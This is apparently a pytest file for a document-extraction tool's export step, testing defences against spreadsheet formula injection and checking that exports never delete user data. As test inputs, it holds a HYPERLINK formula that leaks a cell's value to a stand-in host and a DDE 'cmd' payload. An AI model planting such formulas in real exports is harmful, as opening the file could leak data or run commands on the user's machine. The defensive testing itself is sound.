"""The third round of hostile and careless inputs (issue 21): spreadsheet formulas, exports that
must not delete what they did not write, redaction, hangs, a full disk, numbers read wrong. Each
case failed on the code before it."""

from __future__ import annotations

import csv
import json
import shutil
from pathlib import Path

import pytest

from tests.conftest import SEED, cli

SEED_TEXT = SEED.read_text(encoding="utf-8")


def project(tmp_path: Path, text: str = SEED_TEXT, name: str = "rapport.txt") -> Path:
    (tmp_path / "raw").mkdir(parents=True, exist_ok=True)
    (tmp_path / "raw" / name).write_text(text, encoding="utf-8")
    return tmp_path


def extracted(tmp_path: Path, text: str = SEED_TEXT) -> Path:
    project(tmp_path, text)
    result = cli("extract", "-q", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    return tmp_path / "output"


LEAK = '=HYPERLINK("http://example.invalid/?leak="&A2,"Läs mer")'
FORMULAS = SEED_TEXT.replace("Tidigare engagemang: ERUF-projekt Social Integrering Blekinge",
                             f"Tidigare engagemang: {LEAK} ERUF-projekt Social Integrering Blekinge", 1).replace(
    "Kontakt: Johan Nilsson, PL regionen", "Kontakt: Johan Nilsson, =1+1", 1).replace(
    "Tidigare engagemang: ASF-projekt\n", "Tidigare engagemang: =cmd|' /C calc'!A0\n", 1).replace(
    "Tidigare engagemang: ASF-projekt\n", "Tidigare engagemang: @SUM(1+1) ASF-projekt\n", 1).replace(
    "Konkret: kunskapshöjning", "Konkret: @SUM(1+1) kunskapshöjning", 1)


# --- spreadsheets ---------------------------------------------------------------------------------

def test_no_text_becomes_a_formula_in_the_workbook(tmp_path):
    from openpyxl import load_workbook

    output = extracted(tmp_path, FORMULAS)
    assert cli("export", "--format", "xlsx", cwd=tmp_path).returncode == 0
    workbook = load_workbook(output / "export" / "tables.xlsx")
    texts = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row
             if isinstance(cell.value, str) and cell.value.startswith("=")]
    assert texts, "the hostile texts are in the tables"
    assert all(cell.data_type == "s" for cell in texts), [c.value for c in texts if c.data_type != "s"]
    sections = workbook["sections"]
    assert any(isinstance(c.value, str) and c.value.startswith(LEAK) for row in sections.iter_rows() for c in row)


def test_csv_fields_that_start_a_formula_get_an_apostrophe_and_parquet_keeps_them(tmp_path):
    import pandas as pd

    output = extracted(tmp_path, FORMULAS)
    assert cli("export", "--format", "csv", cwd=tmp_path).returncode == 0
    with (output / "export" / "csv" / "sections.csv").open(encoding="utf-8", newline="") as stream:
        texts = [row["text"] for row in csv.DictReader(stream)]
    assert any(t.startswith("'" + LEAK) for t in texts) and any(t.startswith("'=cmd|") for t in texts)
    for cell in (c for row in csv.reader((output / "export" / "csv" / "sections.csv").open(encoding="utf-8"))
                 for c in row):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    sections = pd.read_parquet(output / "parquet" / "sections.parquet")
    assert sections.text.str.startswith(LEAK).any()  # the dataset keeps the value as written
    with (output / "export" / "csv" / "contacts.csv").open(encoding="utf-8", newline="") as stream:
        lines = [row["source_line"] for row in csv.DictReader(stream)]
    assert "Johan Nilsson, =1+1" in lines  # inside a field, "=" is no formula


def test_a_phone_number_with_a_plus_reads_as_the_number(tmp_path):
    output = extracted(tmp_path, SEED_TEXT.replace("Kontakt: Johan Nilsson, PL regionen",
                                                   "Kontakt: Johan Nilsson, PL regionen, +46 455 73 50 00", 1))
    assert cli("export", "--format", "csv", cwd=tmp_path).returncode == 0
    with (output / "export" / "csv" / "contacts.csv").open(encoding="utf-8", newline="") as stream:
        phones = [row["phone"] for row in csv.DictReader(stream) if row["phone"]]
    assert phones == ["'+46 455 73 50 00"]


# --- exports delete only what they wrote ---------------------------------------------------------

def test_export_refuses_a_users_own_data_package_and_deletes_nothing(tmp_path):
    extracted(tmp_path)
    mine = tmp_path / "mina" / "csv"
    mine.mkdir(parents=True)
    (mine / "sales.csv").write_text("id,amount\n1,100\n", encoding="utf-8")
    (mine / "datapackage.json").write_text(json.dumps({"resources": [{"name": "sales", "path": "sales.csv"}]}),
                                           encoding="utf-8")
    result = cli("export", "--format", "csv", "--to", str(tmp_path / "mina"), cwd=tmp_path)
    assert result.returncode == 1 and result.stderr.count("\n") == 1 and "did not write it" in result.stderr
    assert (mine / "sales.csv").read_text(encoding="utf-8") == "id,amount\n1,100\n"
    assert sorted(p.name for p in mine.iterdir()) == ["datapackage.json", "sales.csv"]


def test_export_replaces_its_own_files_and_keeps_the_other_format(tmp_path):
    extracted(tmp_path)
    to = tmp_path / "ut"
    for fmt in ("csv", "xlsx", "csv"):
        assert cli("export", "--format", fmt, "--to", str(to), cwd=tmp_path).returncode == 0
    assert (to / "tables.xlsx").is_file() and (to / "csv" / "regions.csv").is_file()
    marker = (to / ".pipeline-export").read_text(encoding="utf-8").splitlines()
    assert "tables.xlsx" in marker and "csv/regions.csv" in marker


@pytest.mark.parametrize("damage", ["truncated", "under a file"])
def test_every_export_failure_is_one_line(tmp_path, damage):
    output = extracted(tmp_path)
    to = tmp_path / "ut"
    if damage == "truncated":
        table = output / "parquet" / "regions.parquet"
        table.write_bytes(table.read_bytes()[:200])
    else:
        (tmp_path / "fil").write_text("x", encoding="utf-8")
        to = tmp_path / "fil" / "ut"
    result = cli("export", "--format", "xlsx", "--to", str(to), cwd=tmp_path)
    assert result.returncode == 1 and result.stderr.count("\n") == 1 and "Traceback" not in result.stderr
    assert ("regions.parquet" if damage == "truncated" else "fil") in result.stderr
